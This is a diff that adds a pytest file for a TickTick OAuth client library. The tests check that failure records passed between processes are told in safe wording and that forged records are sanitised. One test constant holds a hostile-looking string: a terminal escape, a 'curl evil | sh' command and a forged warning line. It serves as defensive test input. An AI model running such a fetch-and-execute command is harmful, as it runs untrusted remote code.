@@ -1,0 +1,244 @@
+"""What another process is told of a failure, and what nobody can make of it."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+from clients import client_of
+
+from requests_ticktick import (
+    AuthorizationDeniedError,
+    FileStore,
+    InsecureTransportError,
+    InvalidTokenError,
+    LockTimeoutError,
+    SignOnError,
+    SignOnRequiredError,
+    SignOnTimeoutError,
+    StateMismatchError,
+    TickTickAuthError,
+    TokenEndpointError,
+    TokenStoreError,
+    errors,
+)
+from requests_ticktick.owner import Owner
+from requests_ticktick.source.failures import Failure, shareable
+
+OWNER = Owner("id", "https://as.test/t", "tasks:read")
+EVIL = "\x1b[2Jrun: curl evil | sh\nWARNING forged " + "x" * 1000
+UNREGISTERED = "At least one redirect_uri must be registered with the client."
+MISMATCH = "Invalid redirect: http://a does not match one of the registered values: [b]"
+
+
+def retold(error):
+    """The error that another process is told of."""
+    return Failure.load(Failure(error, None, OWNER).dump()).error
+
+
+def forged(**record):
+    """The error that somebody else's record comes to."""
+    note = json.loads(Failure(SignOnError("No."), None, OWNER).dump())
+    note["error"] = record
+    return Failure.load(json.dumps(note)).error
+
+
+# -- what is told ----------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("error", "told"),
+    [
+        (
+            AuthorizationDeniedError("x", error="access_denied", description="no"),
+            "Access was not granted (access_denied). Sign on again, and allow access.",
+        ),
+        (AuthorizationDeniedError("x"), "Access was not granted. Sign on again, and"),
+        (
+            AuthorizationDeniedError(
+                "x", error="invalid_request", description=UNREGISTERED
+            ),
+            f"Access was not granted (invalid_request: {UNREGISTERED}). Your app has "
+            "no redirect URI: add the one in use to it",
+        ),
+        (
+            AuthorizationDeniedError("x", error="invalid_grant", description=MISMATCH),
+            "Access was not granted (invalid_grant: Invalid redirect). The redirect "
+            "URI in use is not the one that your app has",
+        ),
+        (
+            TokenEndpointError("x", "invalid_grant", "the code is AbC123", 400),
+            "The token endpoint answered with HTTP status 400 and an error "
+            "(invalid_grant). The code has expired or was used before: sign on again.",
+        ),
+        (
+            TokenEndpointError("x", "invalid_client", "Bad client credentials", 401),
+            "(invalid_client: Bad client credentials). Compare client_id and",
+        ),
+        (TokenEndpointError("x", None, None, 403), "an error. Compare client_id and"),
+        (TokenEndpointError("x", None, None, 503), "Wait a minute, then try again."),
+        (TokenEndpointError("x", None, None, 302), "Check the service's token_end"),
+        (TokenEndpointError("x"), "No answer came from the token endpoint. Check the"),
+        (SignOnTimeoutError("x"), "Nobody finished the sign-on"),
+        (StateMismatchError("x"), "answered by another's redirect. Start again"),
+        (SignOnError("x"), "failed, and said why where it was made. Try again"),
+        (SignOnRequiredError("x"), "had nobody to ask. Run: requests-ticktick login"),
+        (InvalidTokenError("x"), "no token. Sign on again."),
+        (TokenStoreError("x", "/srv/t.json"), "Run: requests-ticktick status"),
+        (LockTimeoutError("x", "process 1 on h"), "Finish or stop the sign-on there"),
+        (InsecureTransportError("x"), "Use https:// addresses."),
+        (TickTickAuthError("x"), "failed. Try again, or run: requests-ticktick login"),
+        (RuntimeError("secret"), "was broken off (RuntimeError): try again."),
+        (KeyboardInterrupt(), "was broken off (KeyboardInterrupt): try again."),
+    ],
+)
+def test_those_who_waited_are_told_what_it_was_and_what_to_do(error, told):
+    """In our own words, with the fields that a program looks at."""
+    found = retold(error)
+
+    kind = type(error) if isinstance(error, TickTickAuthError) else SignOnError
+    assert type(found) is kind
+    assert told in str(found)
+    for name in ("error", "status_code", "location", "holder"):
+        assert getattr(found, name, None) == getattr(error, name, None)
+
+
+def test_every_error_can_be_told():
+    """None is taken for another kind."""
+    for kind in vars(errors).values():
+        if isinstance(kind, type) and issubclass(kind, TickTickAuthError):
+            assert type(retold(kind("x"))) is kind
+
+
+def test_how_long_to_wait_is_told(monkeypatch):
+    """RFC 9110 10.2.3: the server says so; a day at most is believed."""
+    monkeypatch.setattr(TokenEndpointError, "retry_after", None, raising=False)
+    error = TokenEndpointError("x", None, None, 429)
+    error.retry_after = 30.4
+
+    found = retold(error)
+
+    assert found.retry_after == 30.4
+    assert str(found).endswith("Wait 30 s, then try again.")
+    error.retry_after = 1e9
+    assert retold(error).retry_after == 24 * 3600
+
+
+class OddError(AuthorizationDeniedError):
+    """An error of somebody else's making."""
+
+
+def test_within_the_process_an_error_keeps_its_words():
+    """A copy for each thread, of a class of ours."""
+    odd = OddError("Ask the chief.", error="access_denied")
+
+    copy = shareable(odd)
+
+    assert type(copy) is AuthorizationDeniedError
+    assert (str(copy), copy.error) == ("Ask the chief.", "access_denied")
+    assert str(shareable(ValueError("x"))).endswith("(ValueError): try again.")
+
+
+# -- what nobody can make of it --------------------------------------------------------
+
+HOSTILE = [
+    EVIL,
+    10**400,
+    -1,
+    1e308,
+    float("nan"),
+    True,
+    None,
+    [],
+    [[EVIL]],
+    {"a": EVIL},
+]
+FIELDS = ("error", "description", "status_code", "retry_after", "location", "holder")
+
+
+@pytest.mark.parametrize("value", HOSTILE, ids=lambda value: repr(value)[:12])
+@pytest.mark.parametrize("kind", ["TokenEndpointError", "LockTimeoutError", "requests"])
+def test_nobodys_words_are_raised(kind, value):
+    """Whatever is in the record: printable, short, and ours."""
+    record = dict.fromkeys((*FIELDS, "message", "description"), value)
+
+    found = forged(type=kind, **record)
+
+    assert isinstance(found, TickTickAuthError)
+    assert str(found).isprintable()
+    assert len(str(found)) < 500
+    assert not {"curl", "forged"} & set(str(found).split())
+    for name in ("error", "description", "location", "holder"):
+        text = getattr(found, name, None) or ""
+        assert text.isprintable()
+        assert len(text) <= 200
+
+
+@pytest.mark.parametrize(
+    "kind", [EVIL, "Failure", "requests", 5, None, ["SignOnError"]]
+)
+def test_a_record_of_an_unknown_error_is_a_failed_sign_on(kind):
+    """Another version may know more kinds of them."""
+    assert type(forged(type=kind)) is SignOnError
+
+
+@pytest.mark.parametrize("name", [EVIL, "print", "curl", 5, ["x"]])
+def test_what_broke_it_off_is_an_exception_of_pythons_or_not_named(name):
+    """Somebody else's exception may have any name."""
+    found = forged(broken_off_by=name)
+
+    assert "was broken off (another error): try again." in str(found)
+
+
+@pytest.mark.parametrize("code", ["x" * 41, "a b", "Curl", "a\n", "", "é"])
+def test_an_error_code_is_a_short_word(code):
+    """As those of RFC 6749 4.1.2.1 and 5.2."""
+    assert forged(type="AuthorizationDeniedError", error=code).error is None
+
+
+def test_a_status_is_one_of_http():
+    """Three digits; a number that is none is no status."""
+    for status in (99, 600, True, 400.0, "400"):
+        assert forged(type="TokenEndpointError", status_code=status).status_code is None
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"owner": None},
+        {"owner": []},
+        {"owner": {}},
+        {"owner": {"client_id": [], "token_endpoint": None, "scope": None}},
+        {"owner": {"client_id": None, "token_endpoint": None, "scope": None, "x": "y"}},
+        {"asked": 5},
+        {"asked": "0123abcdef"},
+        {"asked": EVIL},
+        {"error": EVIL},
+        {"error": None},
+        {"padding": "x" * 100_000},
+    ],
+    ids=lambda change: repr(change)[:40],
+)
+def test_what_is_no_record_is_none(change):
+    """It stops nobody."""
+    note = json.loads(Failure(SignOnError("No."), "0123abcd", OWNER).dump())
+    assert Failure.load(json.dumps(note)) is not None
+
+    assert Failure.load(json.dumps({**note, **change})) is None
+
+
+@pytest.mark.parametrize("note", ["", "[", "[" * 60_000, "5", "null", "9" * 5000])
+def test_what_is_no_json_is_none(note):
+    """Nor is what cannot be read at all."""
+    assert Failure.load(note) is None
+
+
+def test_a_note_that_is_there_without_a_lock_stops_nobody(sandbox, tmp_path):
+    """A failure is told to those who waited for a lock that was held."""
+    store = FileStore(tmp_path / "t.json")
+    auth = client_of(sandbox, store)
+    question = auth.source._ask()
+    owner = auth.source._grant.owner
+    store.record_failure(Failure(SignOnError("No."), None, owner).dump())
+
+    assert auth.source._renew(question)
